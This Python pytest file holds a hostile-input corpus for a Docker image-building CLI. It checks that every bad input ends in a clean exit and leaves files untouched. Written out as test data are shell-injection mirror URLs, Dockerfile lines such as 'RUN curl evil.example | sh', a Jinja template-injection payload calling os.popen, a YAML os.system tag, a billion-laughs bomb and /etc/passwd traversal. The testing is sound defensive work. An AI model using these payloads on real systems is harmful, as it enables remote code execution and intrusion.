"""The hostile corpus (issue 8): bad and hostile inputs, as a careless user or an attacker would give them, against
the tasks as a user runs them. Every run must end with exit 0 or 2 (1 only where a case says why), print no
traceback, and, when it fails, leave images/ exactly as it was.

Most cases run in this process through the `dlimages` program (Invoke's, exiting 2 on a command line it cannot
parse) from a copy of the repo: the fixture matrix as matrix.yaml, the real templates/ and tasks.py. That is the
whole command line path, argument parsing included, without a Python start per case. A few cases run as real
processes (`python -m invoke ...`, the payload scripts), where the process is the point: exit status, a hang, what
reaches the terminal. No case needs Docker: a fake `docker` on PATH records its arguments and answers that no
engine is running, so a value that reaches it is caught, and nothing is ever pulled or run.
"""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import sys
import time
import traceback
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from dlimages.building.mirrors import debian_mirrors
from dlimages.core.errors import InputError

REPO = Path(__file__).resolve().parents[3]
FIXTURE_MATRIX = REPO / "tests/fixtures/matrix.yaml"
MATRIX_TEXT = FIXTURE_MATRIX.read_text(encoding="utf-8")
PAYLOAD = REPO / "src/dlimages/payload"

INJECTING = '"http://x/;echo${IFS}INJECTED>/dev/stderr;id>/dev/stderr;#e"'  # the issue's mirror URL
EVIL = "evil.example"  # in an injected Dockerfile line, which no file under images/ may hold
SECRET = "s3cr3t"  # noqa: S105 - a made-up password that must never be echoed
HUGE = "9" * 5000  # past Python's int() limit of 4,300 digits
BIG = "99999999999999999999999"

FAKE_DOCKER = """#!/bin/sh
# Records every call, one line each, arguments separated by US (0x1f); there is never an engine.
for arg in "$@"; do printf '%s\\037' "$arg" >> "$FAKE_DOCKER_LOG"; done
printf '\\n' >> "$FAKE_DOCKER_LOG"
echo "Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?" >&2
exit 1
"""


def swap(old: str, new: str) -> Callable[[str], str]:
    """An edit of the fixture matrix's text: `old` (which must be there) becomes `new`, once."""

    def edit(text: str) -> str:
        assert old in text, f"{old!r} is not in the fixture matrix"
        return text.replace(old, new, 1)

    return edit


def laughs(levels: int) -> str:
    items = ["&l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    items += [f"&l{i} [{', '.join([f'*l{i - 1}'] * 10)}]" for i in range(1, levels)]
    return ", ".join(items)


ARCHS = "gpu_archs: [sm_35, sm_37, sm_50, sm_60, sm_70, sm_75, sm_80, sm_86, sm_89, sm_90]"
DEBIAN = "debian: http://campus.example.org/debian/"
PYPI = "pypi: https://campus.example.org/pypi/simple"
WHEELS = "pytorch_wheels: https://cloud.example.net/pytorch-wheels/{variant}/"
INDEX = "index_url: https://download.pytorch.org/whl/cu121"
JAMMY = "image: ubuntu:22.04"
RUNTIME = 'runtime: "Framework, its CUDA libraries, JupyterLab and the package set."'


@dataclass(frozen=True)
class Case:
    """One hostile input: the command line after `dlimages`/`invoke`, and what to break in the repo copy first."""

    id: str
    item: str  # the issue's numbered item it comes from ("own": found for this corpus)
    argv: tuple[str, ...]
    matrix: Callable[[str], str | bytes] | None = None
    setup: Callable[[Path], None] | None = None
    codes: tuple[int, ...] = (2,)
    absent: tuple[str, ...] = ()  # text that must appear neither in the output nor in any file under images/
    unwritten: tuple[str, ...] = ()  # text no file under images/ may hold (a message may quote the bad value)
    kept: tuple[str, ...] = ()  # files of the repo copy that a run must leave byte for byte (or absent) as they were
    docker: bool = True  # False: docker must not even be asked (the value is refused before)
    file_size_limit: int | None = None  # run as a process that cannot write a file larger than this


def _nested(path: str) -> Callable[[Path], None]:
    def setup(root: Path) -> None:
        (root / path).parent.mkdir(parents=True, exist_ok=True)

    return setup


def _write(path: str, data: bytes) -> Callable[[Path], None]:
    def setup(root: Path) -> None:
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_bytes(data)

    return setup


def _no_assets(root: Path) -> None:
    shutil.rmtree(root / "templates/assets")


def _matrix_is_a_directory(root: Path) -> None:
    (root / "matrix.yaml").unlink()
    (root / "matrix.yaml").mkdir()
    (root / "matrix.yaml/x").write_text("schema_version: 1\n", encoding="utf-8")


def _matrix_is_a_fifo(root: Path) -> None:
    (root / "matrix.yaml").unlink()
    os.mkfifo(root / "matrix.yaml")


CORRUPT_LEDGER = _write(".work/builds.json", b'{"cells": [')
# A bake file as `invoke bake` writes it: only its being tracked by git keeps it from being overwritten.
BAKE_TEXT = b'{\n  "group": {\n    "default": {\n      "targets": []\n    }\n  },\n  "target": {}\n}\n'


def _tracked_bake_file(root: Path) -> None:
    (root / "docker-bake.json").write_bytes(BAKE_TEXT)
    for argv in (["init", "--quiet"], ["add", "docker-bake.json"]):
        subprocess.run(["git", "-C", str(root), *argv], check=True, capture_output=True)


LONG_LABEL = "a" * 64 + ".example"  # a DNS label has at most 63 characters
LONG_HOST = ".".join(["a" * 63] * 4) + ".example"  # 263 characters: a DNS name has at most 253

C = Case
# fmt: off
CORPUS: list[Case] = [
    # 1. A mirror URL runs commands as root during the build (a Debian 12 cell: its apt mirror went into sed).
    C("mirror-shell", "1", ("build", "--mirror", "campus", "--torch", "2.1", "--python", "3.11", "--dry-run"),
      swap(DEBIAN, f"debian: {INJECTING}")),
    C("mirror-shell-render", "1", ("render", "--check"), swap(DEBIAN, f"debian: {INJECTING}")),
    C("mirror-sed-delimiter", "1", ("render",), swap(DEBIAN, 'debian: "http://x/|e id|"')),
    C("mirror-subshell", "1", ("render",), swap(PYPI, 'pypi: "https://x.example/$(id)/simple"')),
    C("mirror-quote", "1", ("render",), swap(PYPI, "pypi: \"https://x.example/'\\\"; id; #\"")),
    C("mirror-newline", "1", ("render",), swap(PYPI, f'pypi: "https://x.example/simple\\nRUN curl {EVIL} | sh"'),
      unwritten=(f"RUN curl {EVIL}",)),
    C("wheels-shell", "1", ("render",), swap(WHEELS, 'pytorch_wheels: "https://x.example/{variant}/;id"')),
    C("base-mirror-shell", "1", ("base", "--mirror", "http://x/;id>/dev/stderr;#"), docker=False),
    C("base-mirror-not-url", "10", ("base", "--mirror", "ftp://x.example/debian"), docker=False),
    # 2. Dockerfile injection through unchecked strings.
    C("image-newline", "2", ("render",), swap(JAMMY, f'image: "ubuntu:22.04\\nRUN curl http://{EVIL}/x | sh"'),
      unwritten=(f"RUN curl http://{EVIL}",)),
    C("image-user-root", "2", ("render",), swap(JAMMY, 'image: "ubuntu:22.04\\nUSER root"')),
    C("image-as-stage", "2", ("render",), swap(JAMMY, 'image: "ubuntu:22.04 AS x"')),
    C("image-option", "2", ("render",), swap(JAMMY, 'image: "--platform=linux/evil"')),
    C("image-uppercase", "2", ("render",), swap(JAMMY, "image: Ubuntu:22.04")),
    C("repository-newline", "2", ("render",),
      swap("repository: nvidia/cuda", f'repository: "nvidia/cuda\\nRUN curl {EVIL}"'), unwritten=(f"RUN curl {EVIL}",)),
    C("repository-tag", "2", ("render",), swap("repository: nvidia/cuda", "repository: nvidia/cuda:latest")),
    # 3. Credentials in URLs.
    C("pypi-credentials", "3", ("render",), swap(PYPI, f"pypi: https://user:{SECRET}@pypi.example.org/simple"),
      absent=(SECRET,)),
    C("index-credentials", "3", ("render",), swap(INDEX, f"index_url: https://token:{SECRET}@pypi.example.org/cu121"),
      absent=(SECRET,)),
    C("wheels-credentials", "3", ("render",),
      swap(WHEELS, f"pytorch_wheels: https://u:{SECRET}@x.example/{{variant}}/"), absent=(SECRET,)),
    C("base-mirror-credentials", "3", ("base", "--mirror", f"http://u:{SECRET}@deb.example.org/debian"),
      absent=(SECRET,), docker=False),
    # 4. False passes.
    C("smoke-option-image", "4", ("smoke", "--image=--help"), docker=False),
    C("smoke-empty-image", "4", ("smoke", "--image", ""), docker=False),
    C("smoke-no-image", "4", ("smoke",), docker=False),
    C("test-empty-image", "4", ("test", "--image", ""), docker=False),
    C("test-option-image", "4", ("test", "--image=-rA"), docker=False),
    C("bench-option-image", "4", ("bench", "--image=--privileged"), docker=False),
    C("empty-torch", "4", ("build", "--torch", "", "--dry-run")),
    C("empty-cuda", "4", ("build", "--cuda", "", "--dry-run")),
    C("doctor-empty", "4", ("doctor", "--gpu", "", "--driver", "")),
    C("push-option-image", "4", ("push", "--registry", "127.0.0.1:5000", "--image=--all-tags"), docker=False),
    # 5. Images pulled from Docker Hub by accident: never, whatever the name (1: the run failed, nothing pulled).
    C("smoke-never-built", "5", ("smoke", "--image", "lab/never-built:typo"), codes=(1, 2)),
    C("bench-never-built", "5", ("bench", "--image", "library/ubuntu"), codes=(1, 2)),
    # 6. Tracebacks instead of exit 2.
    C("schema-version-huge", "6", ("matrix",), swap("schema_version: 1", f"schema_version: {BIG}")),
    C("schema-version-5000-digits", "6", ("matrix",), swap("schema_version: 1", f"schema_version: {HUGE}")),
    C("schema-version-int-tag", "6", ("matrix",), swap("schema_version: 1", f"schema_version: !!int {HUGE}")),
    C("driver-huge", "6", ("doctor", "--gpu", "sm_90", "--driver", "535.104.05"),
      swap("min_driver: 520.61.05", "min_driver: 99999999999999999999.1"), codes=(0, 2)),
    C("driver-5000-digits", "6", ("doctor", "--gpu", "sm_90", "--driver", "535.104.05"),
      swap("min_driver: 520.61.05", f"min_driver: {HUGE}.1")),
    C("toolkit-huge", "6", ("render",), swap("toolkit: 11.8.0", f"toolkit: 11.8.{BIG}"), codes=(0, 2)),
    C("os-python-5000-digits", "6", ("matrix",), swap('python: "3.8"', f'python: "3.{HUGE}"')),
    C("variant-huge", "6", ("matrix",), swap('"12.1": {cudnn: "8.9"', f'"12.{HUGE}": {{cudnn: "8.9"')),
    C("date", "6", ("matrix",), swap("release: v0.9", "release: 2001-13-99")),
    C("non-utf8", "6", ("matrix",), lambda text: text.replace("release: v0.9", "release: v0.9 \xe9").encode("latin-1")),
    C("utf16", "6", ("matrix",), lambda text: text.encode("utf-16")),
    C("matrix-directory", "6", ("matrix",), setup=_matrix_is_a_directory),
    C("format-field-index", "6", ("build", "--mirror", "cloud", "--torch", "2.1", "--cuda", "11.8", "--dry-run"),
      swap(WHEELS, 'pytorch_wheels: "https://x.example/{variant}/{0}/"')),
    C("format-field-attribute", "6", ("build", "--mirror", "cloud", "--torch", "2.1", "--cuda", "11.8", "--dry-run"),
      swap(WHEELS, 'pytorch_wheels: "https://x.example/{variant}/{variant.__class__.__init__.__globals__}/"')),
    C("format-field-empty", "6", ("render",), swap(WHEELS, 'pytorch_wheels: "https://x.example/{}/{variant}/"')),
    C("corrupt-ledger-test", "6", ("test",), setup=CORRUPT_LEDGER, docker=False),
    C("corrupt-ledger-push", "6", ("push", "--registry", "127.0.0.1:5000"), setup=CORRUPT_LEDGER, docker=False),
    C("ledger-not-json-object", "6", ("test",), setup=_write(".work/builds.json", b"[1, 2]"), docker=False),
    C("ledger-directory", "6", ("test",), setup=_nested(".work/builds.json/x"), docker=False),
    C("no-assets", "6", ("render",), setup=_no_assets),
    C("retries-not-a-number", "6", ("push", "--registry", "127.0.0.1:5000", "--retries", "abc"), docker=False),
    C("retries-huge", "6", ("push", "--registry", "127.0.0.1:5000", "--retries", BIG), docker=False),
    C("torch-5000-digits", "6", ("build", "--torch", HUGE, "--dry-run")),
    C("torch-superscript", "6", ("build", "--torch", "\u00b2.1", "--dry-run")),
    C("cuda-huge", "6", ("build", "--cuda", BIG, "--dry-run")),
    C("python-huge", "6", ("build", "--torch", "2.1", "--python", f"3.{BIG}", "--dry-run")),
    C("driver-flag-5000-digits", "6", ("doctor", "--gpu", "sm_90", "--driver", HUGE)),
    C("gpu-flag-huge", "6", ("doctor", "--gpu", f"sm_{BIG}", "--driver", "535.104.05")),
    # 7. Unbounded resources.
    C("billion-laughs", "7", ("matrix",), swap(ARCHS, f"gpu_archs: [{laughs(9)}]")),
    C("alias-cycle-merge", "7", ("matrix",), swap("flavors:\n", "flavors: &f\n  <<: *f\n")),
    C("deep-nesting", "7", ("matrix",), swap(ARCHS, "gpu_archs: " + "[" * 3000 + "]" * 3000)),
    C("merge-chain", "7", ("matrix",),
      lambda text: "".join(f"x{i}: &x{i} {{<<: *x{i - 1}}}\n" if i else "x0: &x0 {a: 1}\n" for i in range(3000))
      + text),
    C("too-large", "7", ("matrix",), lambda text: "#" + "x" * (1 << 20) + "\n" + text),
    C("matrix-fifo", "7", ("matrix",), setup=_matrix_is_a_fifo),
    # 8. Half-written trees.
    # As a process whose file size limit (RLIMIT_FSIZE, which binds root too) stops render half-way.
    C("render-cut-short", "8", ("render",), swap("release: v0.9", "release: v0.10"), file_size_limit=6000),
    # 9. Non-ASCII digits.
    C("arabic-digits-matrix", "9", ("render",), swap('python: ["3.8", "3.10", "3.11"]',
                                                      'python: ["3.8", "3.\u0661\u0660", "3.11"]')),
    C("arabic-digits-driver", "9", ("matrix",), swap("min_driver: 520.61.05", "min_driver: \u0665\u0662\u0660.61.05")),
    C("arabic-digits-torch", "9", ("build", "--torch", "\u0662.\u0661", "--dry-run")),
    C("arabic-digits-doctor", "9", ("doctor", "--gpu", "sm_90", "--driver", "\u0665\u0663\u0665.104.05")),
    C("fullwidth-digits-cuda", "9", ("build", "--cuda", "\uff11\uff11.8", "--dry-run")),
    C("release-arabic", "9", ("render",), swap("release: v0.9", "release: v0.\u0669")),
    # 10. Exit codes: usage errors are 2.
    C("unknown-flag", "10", ("build", "--bogus")),
    C("unknown-task", "10", ("bogus",)),
    C("flag-without-value", "10", ("build", "--torch")),
    C("ca-bundle-missing", "10", ("build", "--torch", "2.1", "--ca-bundle", "/nonexistent/ca.pem")),
    C("ca-bundle-directory", "10", ("build", "--torch", "2.1", "--ca-bundle", "/")),
    C("netrc-device", "10", ("build", "--torch", "2.1", "--netrc", "/dev/null")),
    C("bench-no-image", "10", ("bench",), docker=False),
    # 11. Push: registries and refs are checked before anything runs.
    C("registry-empty", "11", ("push", "--registry", ""), docker=False),
    C("registry-shell", "11", ("push", "--registry", "localhost:5000;id"), docker=False),
    C("registry-credentials", "11", ("push", "--registry", f"u:{SECRET}@localhost:5000"), absent=(SECRET,),
      docker=False),
    C("registry-port-huge", "11", ("push", "--registry", f"localhost:{BIG}"), docker=False),
    # Own: more of the same families.
    C("jinja-in-a-value", "own", ("render",),
      swap(RUNTIME, "runtime: \"{{ cycler.__init__.__globals__.os.popen('id').read() }}\""),
      codes=(0, 2), absent=("uid=0(",)),
    C("escape-in-a-value", "own", ("matrix",), swap(RUNTIME, 'runtime: "\\e]0;pwned\\a"')),
    C("nul-in-file", "own", ("matrix",), swap("release: v0.9", "release: v0.9\x00")),
    C("python-tag", "own", ("matrix",), swap("release: v0.9", "release: !!python/object/apply:os.system [id]")),
    C("crlf-line-endings", "own", ("matrix",), lambda text: text.replace("\n", "\r\n"), codes=(0,)),
    C("byte-order-mark", "own", ("matrix",), lambda text: "\ufeff" + text, codes=(0,)),
    C("empty-matrix", "own", ("matrix",), lambda text: ""),
    C("comments-only", "own", ("matrix",), lambda text: "# nothing\n"),
    C("partial-traversal", "own", ("render",), swap("partials: [base,", "partials: [../../../etc/passwd, base,")),
    C("flavor-newline", "own", ("render",), swap("flavor: [runtime, devel]", 'flavor: [runtime, "devel\\nRUN id"]')),
    C("image-name-traversal", "own", ("render",), swap("name: test/pytorch-dev", "name: test/../pytorch-dev")),
    C("control", "own", ("render",), codes=(0,)),  # the harness itself: the fixture renders, nothing changes
    C("mirror-unknown", "own", ("build", "--torch", "2.1", "--mirror", "../../etc", "--dry-run")),
    C("python-flag-junk", "own", ("build", "--torch", "2.1", "--python", "3.10; id", "--dry-run")),
    C("gpu-flag-junk", "own", ("doctor", "--gpu", "sm_90,,$(id)", "--driver", "535.104.05")),
    # Issue 10: where bases come from is checked before any engine, registry or skopeo is asked.
    C("base-registry-shell", "own", ("build", "--torch", "2.1", "--base-registry", "x.example;id", "--dry-run"),
      docker=False),
    C("base-registry-scheme", "own", ("build", "--torch", "2.1", "--base-registry", "https://x.example/m"),
      docker=False),
    C("base-registry-hub-namespace", "own", ("repro", "--torch", "2.1", "--base-registry", "mirror"), docker=False),
    C("bases-mirror-no-target", "own", ("bases.mirror", "--torch", "2.1"), docker=False),
    C("bases-mirror-option-target", "own", ("bases.mirror", "--to", "--help"), docker=False),
    C("bases-mirror-bad-image", "own", ("bases.mirror", "--to", "127.0.0.1:5000/m", "--image", "a b"), docker=False),
    # Issue 17, item 7: input contract gaps, each exit 2 naming the flag before any engine, registry or skopeo.
    C("jobs-not-a-number", "own", ("build", "--torch", "2.1", "--jobs", "abc", "--dry-run"), docker=False),
    C("jobs-fullwidth", "own", ("build", "--torch", "2.1", "--jobs", "\uff11", "--dry-run"), docker=False),
    C("jobs-arabic", "own", ("build", "--torch", "2.1", "--jobs", "\u0663", "--dry-run"), docker=False),
    C("jobs-huge", "own", ("build", "--torch", "2.1", "--jobs", BIG, "--dry-run"), docker=False),
    C("upgrade-package-newline", "own", ("lock", "--torch", "2.1", "--upgrade-package", "numpy\n"), docker=False),
    C("upgrade-package-trailing-dash", "own", ("lock", "--torch", "2.1", "--upgrade-package", "numpy-"), docker=False),
    C("lock-timeout-fullwidth", "own", ("lock", "--torch", "2.1", "--timeout", "\uff13\uff10"), docker=False),
    C("base-registry-long-label", "own", ("build", "--torch", "2.1", "--base-registry", LONG_LABEL, "--dry-run"),
      docker=False),
    C("base-registry-long-host", "own", ("build", "--torch", "2.1", "--base-registry", LONG_HOST, "--dry-run"),
      docker=False),
    C("base-registry-long-name", "own",
      ("build", "--torch", "2.1", "--base-registry", "r.example/" + "/".join(["p" * 60] * 4), "--dry-run"),
      docker=False),
    C("bases-mirror-long-to", "own", ("bases.mirror", "--to", LONG_HOST, "--torch", "2.1", "--dry-run"), docker=False),
    C("bases-mirror-long-name", "own",
      ("bases.mirror", "--to", "r.example/" + "/".join(["p" * 60] * 4), "--torch", "2.1", "--dry-run"), docker=False),
    C("repro-dockerfile-and-cell", "own", ("repro", "--dockerfile", "matrix.yaml", "--torch", "2.1"), docker=False),
    C("repro-dockerfile-and-mirror", "own", ("repro", "--dockerfile", "matrix.yaml", "--mirror", "campus"),
      docker=False),
    C("repro-context-alone", "own", ("repro", "--torch", "2.1", "--context", "templates"), docker=False),
    C("bake-out-matrix", "own", ("bake", "--torch", "2.1", "--out", "matrix.yaml"), docker=False,
      kept=("matrix.yaml",)),
    C("bake-out-tracked", "own", ("bake", "--torch", "2.1", "--out", "docker-bake.json"),
      setup=_tracked_bake_file, docker=False, kept=("docker-bake.json",)),
    C("bake-out-parent-is-a-file", "own", ("bake", "--torch", "2.1", "--out", "matrix.yaml/bake.json"),
      docker=False, kept=("matrix.yaml",)),
    C("bake-out-no-permission", "own", ("bake", "--torch", "2.1", "--out", "/proc/1/bake.json"), docker=False),
    C("bake-out-refused-by-kernel", "own", ("bake", "--torch", "2.1", "--out", "/sys/bake.json"), docker=False),
    C("bake-out-nul", "own", ("bake", "--torch", "2.1", "--out", "x\x00.json"), docker=False),
    C("bench-batch-size-junk", "own", ("bench", "--image", "lab/x:1", "--batch-size", "abc"), docker=False),
    C("bench-batch-size-fullwidth", "own", ("bench", "--image", "lab/x:1", "--batch-size", "\uff11\uff12\uff18"),
      docker=False),
    C("bench-batch-size-mode", "own", ("bench", "--image", "lab/x:1", "--batch-size", "fp64=128"), docker=False),
    C("bench-gpus-junk", "own", ("bench", "--image", "lab/x:1", "--gpus", "two"), docker=False),
    C("bench-gpus-empty", "own", ("bench", "--image", "lab/x:1", "--gpus", ""), docker=False),
    C("bench-gpus-modes", "own", ("bench", "--image", "lab/x:1", "--gpus", "all", "--modes", "fp32,tf32"),
      docker=False),
    C("bench-modes-unknown", "own", ("bench", "--image", "lab/x:1", "--modes", "fp64"), docker=False),
]
# fmt: on

# Where a case waits for a part of issue 8 that is not in the loader; kept here so the report can name them.
WAITS_FOR = {
    "1": "URL grammar (matrix.yaml fields, --mirror)",
    "2": "image reference and repository grammars",
    "3": "URL grammar: no userinfo",
    "4": "tasks: image and empty-value checks",
    "5": "tasks: --pull never",
    "9": "ASCII-only version grammars (matrix fields and flags)",
    "10": "the dlimages program, tasks",
    "11": "push: registry and ref checks",
}


def _snapshot(folder: Path) -> dict[str, tuple[int, bytes]]:
    if not folder.exists():
        return {}
    found: dict[str, tuple[int, bytes]] = {}
    for path in sorted(folder.rglob("*")):
        mode = path.lstat().st_mode
        data = path.read_bytes() if stat.S_ISREG(mode) else b""
        found[str(path.relative_to(folder))] = (stat.S_IFMT(mode) | stat.S_IMODE(mode), data)
    return found


@pytest.fixture(scope="module")
def pristine(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The repo copy every case starts from: the fixture matrix, templates/, tasks.py, and images/ rendered."""
    from dlimages.generate.project import Project

    root = tmp_path_factory.mktemp("hostile") / "repo"
    root.mkdir()
    shutil.copy2(FIXTURE_MATRIX, root / "matrix.yaml")
    shutil.copy2(REPO / "tasks.py", root / "tasks.py")
    shutil.copytree(REPO / "templates", root / "templates")
    Project(root).write_rendered()
    return root


@pytest.fixture(scope="module")
def fake_bin(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("fake-bin")
    docker = folder / "docker"
    docker.write_text(FAKE_DOCKER, encoding="utf-8")
    docker.chmod(0o755)
    return folder


@dataclass
class Outcome:
    code: int | None  # None: an exception escaped (its traceback is in `output`)
    output: str
    docker_calls: list[list[str]] = field(default_factory=list)
    seconds: float = 0.0


def _program() -> object:
    try:
        from dlimages.cli import DlimagesProgram

        return DlimagesProgram(name="dlimages", binary="dlimages")
    except ImportError:  # before issue 8: Invoke's own program
        from invoke.program import Program

        return Program(name="invoke", binary="invoke")


def _prepare(case: Case, pristine: Path, tmp_path: Path) -> Path:
    """The case's repo: its own matrix.yaml and tasks.py; templates/ and images/ linked to the pristine copy unless
    the case may change them (a copy costs more than most cases take to run)."""
    root = tmp_path / "repo"
    root.mkdir()
    shutil.copy2(pristine / "tasks.py", root / "tasks.py")
    shutil.copy2(pristine / "matrix.yaml", root / "matrix.yaml")
    if case.setup is _no_assets:
        shutil.copytree(pristine / "templates", root / "templates")
    else:
        (root / "templates").symlink_to(pristine / "templates", target_is_directory=True)
    if case.argv[:1] == ("render",) and "--check" not in case.argv:
        # Enough of a tree to see any write: one rendered cell, as it was.
        cell = next((pristine / "images/pytorch").iterdir())
        shutil.copytree(cell, root / "images/pytorch" / cell.name)
    else:
        (root / "images").symlink_to(pristine / "images", target_is_directory=True)
    if case.matrix is not None:
        edited = case.matrix(MATRIX_TEXT)
        data = edited.encode("utf-8", "surrogatepass") if isinstance(edited, str) else edited
        (root / "matrix.yaml").write_bytes(data)
    if case.setup is not None:
        case.setup(root)
    return root


def _docker_calls(log: Path) -> list[list[str]]:
    if not log.exists():
        return []
    return [line.split("\x1f")[:-1] for line in log.read_text(encoding="utf-8", errors="replace").splitlines()]


def run_in_process(
    argv: tuple[str, ...],
    root: Path,
    fake_bin: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> Outcome:
    """`dlimages ARGV` in `root`, in this process: its exit code and everything it printed."""
    log = root.parent / "docker.log"
    monkeypatch.chdir(root)
    monkeypatch.setenv("PATH", f"{fake_bin}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv("FAKE_DOCKER_LOG", str(log))
    monkeypatch.setattr(sys, "path", list(sys.path))  # Invoke puts the folder of tasks.py first
    monkeypatch.delitem(sys.modules, "tasks", raising=False)
    program = _program()
    code: int | None = 0
    escaped = ""
    start = time.monotonic()
    try:
        program.run(["dlimages", *argv])  # type: ignore[attr-defined]
    except SystemExit as exit_:
        code = exit_.code if isinstance(exit_.code, int) else (0 if exit_.code is None else 1)
    except Exception:  # what a user would see as a traceback
        code = None
        escaped = traceback.format_exc()
    seconds = time.monotonic() - start
    captured = capsys.readouterr()
    return Outcome(code, captured.out + captured.err + escaped, _docker_calls(log), seconds)


def check(case: Case, outcome: Outcome, before: dict[str, tuple[int, bytes]], root: Path) -> None:
    where = f"[item {case.item}: {' '.join(case.argv)}]\n{outcome.output[-3000:]}"
    assert "Traceback" not in outcome.output, where
    assert outcome.code in case.codes, f"exit {outcome.code}, expected {case.codes} {where}"
    after = _snapshot(root / "images")
    if outcome.code != 0:
        assert after == before, f"images/ changed on a failed run {where}"
    for text in case.absent:
        assert text not in outcome.output, f"{text!r} reached the output {where}"
    for text in case.absent + case.unwritten:
        leaked = [name for name, (_, data) in after.items() if text.encode() in data]
        assert not leaked, f"{text!r} reached {leaked}"
    for call in outcome.docker_calls:
        assert call[:1] != ["pull"], f"docker pull was run: {call}"
        if call[:1] == ["run"]:
            assert "--pull" in call and call[call.index("--pull") + 1] == "never", f"docker run may pull: {call}"
    if not case.docker:
        assert outcome.docker_calls == [], f"docker was asked before the input was checked: {outcome.docker_calls}"
    # Bounded: every case is refused or done in seconds (the billion laughs ran past 5 minutes).
    assert outcome.seconds < 10, f"took {outcome.seconds:.1f} s {where}"


IN_PROCESS = [case for case in CORPUS if case.file_size_limit is None]


@pytest.mark.parametrize("case", IN_PROCESS, ids=[f"{c.item}-{c.id}" for c in IN_PROCESS])
def test_hostile_input_ends_in_a_clean_exit(
    case: Case,
    pristine: Path,
    fake_bin: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    if case.setup is _matrix_is_a_fifo and not hasattr(os, "mkfifo"):
        pytest.skip("needs named pipes")
    root = _prepare(case, pristine, tmp_path)
    before = _snapshot(root / "images")
    kept = {path: _content(root / path) for path in case.kept}
    outcome = run_in_process(case.argv, root, fake_bin, monkeypatch, capsys)
    check(case, outcome, before, root)
    assert {path: _content(root / path) for path in case.kept} == kept, f"a file the run must keep changed {case.id}"


def _content(path: Path) -> bytes | None:
    return path.read_bytes() if path.is_file() else None


def test_the_corpus_covers_every_numbered_item_of_the_issue() -> None:
    assert {case.item for case in CORPUS} >= {str(item) for item in range(1, 12)} | {"own"}
    assert len({case.id for case in CORPUS}) == len(CORPUS)


# --- This host's apt sources (--mirror host, invoke base): hostile files, read in this process --------------


@pytest.mark.parametrize(
    "content",
    [
        b"deb http://x.example/;id>/dev/stderr;# bookworm main\n",
        f"deb https://user:{SECRET}@deb.example.org/debian bookworm main\n".encode(),
        b"deb http://deb.example.org/debian$(id) bookworm main\n",
        b"deb \xff\xfe bookworm main\n",
        b"Types: deb\nURIs: http://x.example/`id`\nSuites: bookworm\nComponents: main\n",
        b"deb [trusted=yes\n",
        b"\x00" * 64,
    ],
    ids=["semicolon", "credentials", "subshell", "not-utf8", "deb822-backticks", "unclosed-options", "nul"],
)
def test_hostile_host_apt_sources_are_refused_or_ignored(tmp_path: Path, content: bytes) -> None:
    sources = tmp_path / "sources.list"
    sources.write_bytes(content)
    try:
        main, security = debian_mirrors([sources])
    except InputError as error:
        assert SECRET not in error.report()
        return
    from dlimages.core.grammar import url_problem

    assert url_problem(main) is None and url_problem(security) is None, (main, security)


# --- As real processes: exit status, output and time of the commands themselves --------------------------

PROCESS_CASES = [
    ("non-utf8", ("invoke", "matrix"), (2,)),
    ("billion-laughs", ("invoke", "render"), (2,)),  # the old loader ran past 5 minutes and 1.2 GB
    ("render-cut-short", ("invoke", "render"), (2,)),
]
BY_ID = {case.id: case for case in CORPUS}


def _limit_file_size(limit: int) -> Callable[[], None]:
    def limit_in_child() -> None:
        import resource
        import signal

        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails (EFBIG) instead of killing
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return limit_in_child


@pytest.mark.slow
@pytest.mark.parametrize(
    ("case_id", "command", "codes"), PROCESS_CASES, ids=[f"{c[0]}-{c[1][0]}" for c in PROCESS_CASES]
)
def test_hostile_input_as_a_process(
    case_id: str, command: tuple[str, ...], codes: tuple[int, ...], pristine: Path, fake_bin: Path, tmp_path: Path
) -> None:
    case = BY_ID[case_id]
    root = _prepare(case, pristine, tmp_path)
    before = _snapshot(root / "images")
    env = {
        **os.environ,
        "PATH": f"{fake_bin}{os.pathsep}{os.environ['PATH']}",
        "FAKE_DOCKER_LOG": str(tmp_path / "docker.log"),
    }
    start = time.monotonic()
    try:
        done = subprocess.run(
            [sys.executable, "-m", *command],
            cwd=root,
            env=env,
            capture_output=True,
            text=True,
            errors="replace",
            timeout=60,
            check=False,
            preexec_fn=_limit_file_size(case.file_size_limit) if case.file_size_limit else None,
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"`{' '.join(command)}` ran past 60 s")
    outcome = Outcome(done.returncode, done.stdout + done.stderr, _docker_calls(tmp_path / "docker.log"))
    outcome.seconds = time.monotonic() - start
    check(Case(case.id, case.item, command, codes=codes, absent=case.absent, docker=case.docker), outcome, before, root)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("script", "args"),
    [
        ("dl_bench.py", ("--batch-size", "abc")),
        ("dl_bench.py", ("--batch-size", "\u0661\u0662\u0668")),
        ("dl_bench.py", ("--out", "/proc/nonexistent/report.json")),
        ("dl_bench.py", ("--modes", "fp32;id")),
        ("dl_smoke.py", ("--bogus",)),
    ],
    ids=["bench-batch-junk", "bench-batch-arabic", "bench-out-unwritable", "bench-modes", "smoke"],
)
def test_hostile_payload_flags_exit_2(script: str, args: tuple[str, ...]) -> None:
    # Usage errors are found before torch is imported: these run in a fraction of a second.
    done = subprocess.run(
        [sys.executable, str(PAYLOAD / script), *args],
        capture_output=True,
        text=True,
        env={**os.environ, "CUDA_VISIBLE_DEVICES": ""},
        timeout=60,
        check=False,
    )
    assert done.returncode == 2, done.stdout + done.stderr
    assert "Traceback" not in done.stdout + done.stderr
